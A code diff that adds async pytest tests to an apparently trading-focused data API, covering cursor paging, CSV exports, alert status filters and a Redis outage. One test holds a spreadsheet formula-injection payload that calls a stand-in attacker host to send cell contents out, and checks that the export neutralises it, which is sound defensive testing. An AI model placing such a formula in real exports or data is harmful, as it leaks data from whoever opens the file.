@@ -4,6 +4,8 @@ every resource served, 422s that name the parameter, CSV streamed, offline docs.
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 import time
 from collections.abc import AsyncIterator
@@ -18,6 +20,7 @@ from fastapi import FastAPI
 from starlette.types import Message
 
 from mastertrade.catalog import find_service, load_service_module, load_service_settings
+from tests.infra import free_port
 from tests.services.helpers import running
 from tests.services.trading import serve_app
 
@@ -350,6 +353,111 @@ async def test_every_resource_is_served_with_exact_decimals(
     bad = await client.get("/api/v1/orders", params={"status": "lost"})
     assert bad.status_code == 422
     assert bad.json()["detail"][0]["loc"] == ["query", "status"]
+
+
+async def test_positions_updated_while_a_client_pages_are_each_served_once(
+    client: httpx.AsyncClient, database_url: str
+) -> None:
+    """Positions change in place: paging them newest first by update time, a position updated
+    between two pages would move ahead of the cursor and never be served."""
+    symbols = [f"PAGE{letter}USDT" for letter in "ABCDE"]
+    connection = await asyncpg.connect(database_url)
+    try:
+        for minutes, symbol in enumerate(symbols):
+            await connection.execute(
+                "INSERT INTO positions (environment, symbol, quantity, average_price, updated_at) "
+                "VALUES ('paper', $1, 1, 1, now() - make_interval(mins => $2)) "
+                "ON CONFLICT (environment, symbol) DO UPDATE SET updated_at = EXCLUDED.updated_at",
+                symbol, 60 - minutes,
+            )  # fmt: skip
+        served: list[str] = []
+        params: dict[str, str | int] = {"environment": "paper", "order": "desc", "limit": 2}
+        while True:
+            body = (await client.get("/api/v1/positions", params=params)).json()
+            served += [row["symbol"] for row in body["data"]]
+            # a fill updates a position not served yet (the first of them by the old key)
+            waiting = [s for s in symbols if s not in served]
+            if waiting:
+                await connection.execute(
+                    "UPDATE positions SET quantity = 2, updated_at = now() "
+                    "WHERE environment = 'paper' AND symbol = $1", waiting[0],
+                )  # fmt: skip
+            if body["next_cursor"] is None:
+                break
+            params["cursor"] = body["next_cursor"]
+    finally:
+        await connection.close()
+    mine = [s for s in served if s in symbols]
+    assert sorted(mine) == symbols, served  # every one, once
+    assert len(served) == len(set(served))
+
+
+async def test_a_csv_export_cannot_carry_a_spreadsheet_formula(
+    client: httpx.AsyncClient, database_url: str
+) -> None:
+    """An alert's text comes from outside (Alertmanager's annotations): a spreadsheet opening
+    the export must show it, not run it. Numbers stay numbers, negative ones included."""
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+    connection = await asyncpg.connect(database_url)
+    try:
+        await connection.execute(
+            "INSERT INTO alerts (severity, title, message, status) VALUES ('info', $1, $2, 'sent')",
+            "csv-formula", formula,
+        )  # fmt: skip
+        await connection.execute(
+            "INSERT INTO arbitrage_opportunities (kind, venue, route, start_asset, start_amount, "
+            "expected_profit, profit_bps) VALUES ('triangular', 'binance', '@SUM(A1)', 'USDT', "
+            "10, -0.5, -5)"
+        )
+    finally:
+        await connection.close()
+    alerts = await client.get("/api/v1/alerts", params={"format": "csv", "severity": "info"})
+    rows = [row for row in csv.reader(io.StringIO(alerts.text)) if "csv-formula" in row]
+    assert rows, alerts.text
+    message = rows[0][3]
+    assert message == "'" + formula
+    opportunities = await client.get(
+        "/api/v1/arbitrage/opportunities", params={"format": "csv", "kind": "triangular"}
+    )
+    found = [r for r in csv.reader(io.StringIO(opportunities.text)) if "'@SUM(A1)" in r]
+    assert found, opportunities.text
+    assert (found[0][6], found[0][7]) == ("-0.5", "-5")  # expected_profit, profit_bps
+
+
+async def test_alerts_of_every_stored_status_can_be_selected(
+    client: httpx.AsyncClient, database_url: str
+) -> None:
+    connection = await asyncpg.connect(database_url)
+    try:
+        for status in ("partial", "suppressed"):
+            await connection.execute(
+                "INSERT INTO alerts (severity, title, status) VALUES ('warning', $1, $2)",
+                f"status-{status}", status,
+            )  # fmt: skip
+    finally:
+        await connection.close()
+    for status in ("pending", "sent", "partial", "failed", "suppressed"):
+        answer = await client.get("/api/v1/alerts", params={"status": status})
+        assert answer.status_code == 200, (status, answer.text)
+        assert all(row["status"] == status for row in answer.json()["data"])
+    suppressed = await client.get("/api/v1/alerts", params={"status": "suppressed"})
+    assert "status-suppressed" in {row["title"] for row in suppressed.json()["data"]}
+
+
+async def test_pages_are_served_from_the_database_while_redis_is_away(
+    service_env: dict[str, str], database_url: str
+) -> None:
+    """The page cache only saves work: with Redis away, pages are misses, not 503s."""
+    await insert_candles(database_url, "NOREDISUSDT", 50)
+    away = {**service_env, "REDIS_URL": f"redis://127.0.0.1:{free_port()}/15"}
+    async with running(data_api(away)) as answering:
+        for _ in range(2):
+            answer = await answering.get("/api/v1/candles/NOREDISUSDT", params={"limit": 10})
+            assert answer.status_code == 200, answer.text
+            assert answer.headers["X-Cache"] == "miss"
+            assert len(answer.json()["data"]) == 10
+        health = await answering.get("/health")
+        assert health.json()["checks"]["redis"] == "error"  # the outage still shows
 
 
 async def test_sentiment_and_onchain_observations_are_served_apart(
